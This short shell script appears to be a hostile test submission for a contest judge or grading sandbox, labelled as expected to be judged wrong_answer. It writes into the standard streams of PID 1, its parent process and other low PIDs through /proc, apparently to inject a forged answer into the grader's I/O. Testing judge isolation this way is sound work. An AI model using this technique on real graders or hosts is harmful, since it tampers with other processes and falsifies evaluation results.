# attacks: the streams of those who run it, by /proc
# sum, secret: wrong_answer
for pid in 1 $PPID 2 3 4 5; do
    for fd in 0 1 2 3; do echo 3 >/proc/$pid/fd/$fd; done
done 2>/dev/null
exit 0
